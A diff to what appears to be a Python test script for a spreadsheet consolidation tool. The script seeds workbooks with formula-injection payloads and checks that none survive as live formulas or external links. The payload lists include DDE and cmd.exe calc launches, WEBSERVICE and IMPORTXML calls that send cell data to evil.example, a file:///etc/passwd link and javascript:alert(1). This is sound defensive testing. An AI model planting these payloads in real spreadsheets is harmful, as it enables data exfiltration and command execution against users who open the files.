@@ -26,15 +26,39 @@ from xlkit.write import respondent
 
 STARTS = ("=", "+", "-", "@", "\t=", "\n=", " =", "'=", '"=', "＝", "{=", "%0A=", ";=", ",=", "0=")
 BODIES = (
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")', "WEBSERVICE(\"http://evil.example\")",
-    "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"a\")", "SUM(A1:A9)", "'[evil.xlsx]Sheet1'!A1",
-    "EXEC(\"calc\")", "REGISTER.ID(\"a\",\"b\")", "INDIRECT(\"A1\")", "IMAGE(\"http://evil.example/a.png\")",
-    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "RTD(\"evil\",,\"a\")", "A1", "@SUM(1)", "#REF!", "TRUE", "1E5", "</t></si><f>1</f>",
-)  # fmt: skip
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example/?x="&A1,"click")',
+    'WEBSERVICE("http://evil.example")',
+    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
+    'DDE("cmd";"/C calc";"a")',
+    "SUM(A1:A9)",
+    "'[evil.xlsx]Sheet1'!A1",
+    'EXEC("calc")',
+    'REGISTER.ID("a","b")',
+    'INDIRECT("A1")',
+    'IMAGE("http://evil.example/a.png")',
+    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+    'RTD("evil",,"a")',
+    "A1",
+    "@SUM(1)",
+    "#REF!",
+    "TRUE",
+    "1E5",
+    "</t></si><f>1</f>",
+)
 LINKS = (
-    "http://evil.example", "https://evil.example/a?b=c", "ftp://evil.example", "mailto:a@evil.example", "file:///etc/passwd",
-    "\\\\evil.example\\share\\a", "internal:'Cover'!A1", "external:c:\\evil.xlsx", "javascript:alert(1)", "http://evil.example/#" + "a" * 300,
-)  # fmt: skip
+    "http://evil.example",
+    "https://evil.example/a?b=c",
+    "ftp://evil.example",
+    "mailto:a@evil.example",
+    "file:///etc/passwd",
+    "\\\\evil.example\\share\\a",
+    "internal:'Cover'!A1",
+    "external:c:\\evil.xlsx",
+    "javascript:alert(1)",
+    "http://evil.example/#" + "a" * 300,
+)
 
 
 def payloads(count: int) -> list[str]:
@@ -54,7 +78,9 @@ def write_returns(folder: Path, texts: Sequence[str]) -> None:
             evidence={item.name: text for item in items if item.evidence},
             actions={items[1].name: ({"action": text, "owner": text, "status": text},)},
         )
-        respondent.write(folder / f"{number:03}.xlsx", instrument, identity.issued(instrument, who, "Spring"), demo.ROUND, draft)
+        respondent.write(
+            folder / f"{number:03}.xlsx", instrument, identity.issued(instrument, who, "Spring"), demo.ROUND, draft
+        )
 
 
 def formulas_and_links(path: Path) -> Iterator[str]:
@@ -64,9 +90,11 @@ def formulas_and_links(path: Path) -> Iterator[str]:
             part = archive.read(name).decode(errors="replace")
             if name.startswith("xl/worksheets/sheet"):
                 yield from (html.unescape(found) for found in re.findall(r"<f[^>]*>([^<]*)</f>", part))
-                yield from (html.unescape(found) for found in re.findall(r'<formula[12]?>([^<]*)</formula', part))
+                yield from (html.unescape(found) for found in re.findall(r"<formula[12]?>([^<]*)</formula", part))
             if name.endswith(".rels"):
-                yield from (html.unescape(found) for found in re.findall(r'Target="([^"]*)" TargetMode="External"', part))
+                yield from (
+                    html.unescape(found) for found in re.findall(r'Target="([^"]*)" TargetMode="External"', part)
+                )
 
 
 def texts_of(path: Path) -> set[str]:
@@ -99,17 +127,22 @@ def main(arguments: Sequence[str] | None = None) -> None:
         print(told.stdout.splitlines()[-2] if told.exit_code in (0, 3) else told.output)
         bad, missing = judged(out, texts)
         sheets = len(load_workbook(out, read_only=True).sheetnames)
-        print(f"consolidated, {sheets} sheets: {len(texts)} payloads, {len(bad)} in formulas or links, {len(missing)} not as they were")
+        print(
+            f"consolidated, {sheets} sheets: {len(texts)} payloads, "
+            f"{len(bad)} in formulas or links, {len(missing)} not as they were"
+        )
         CliRunner().invoke(xlkit, ["validate", str(folder), "--corrections", str(back)])
         written = sorted(back.iterdir())
-        found = [judged(path, ()) for path in written]
-        held = [said for path in written for said in formulas_and_links(path) if any(text in said for text in texts if len(text) > 4)]
-        print(f"{len(found)} corrections: {len(held)} payloads in formulas or links")
+        held = [
+            said
+            for path in written
+            for said in formulas_and_links(path)
+            if any(text in said for text in texts if len(text) > 4)
+        ]
+        print(f"{len(written)} corrections: {len(held)} payloads in formulas or links")
         for said in [*bad, *held, *missing][:10]:
             print(f"  {said!r}")
 
 
 if __name__ == "__main__":
     main()
-
-
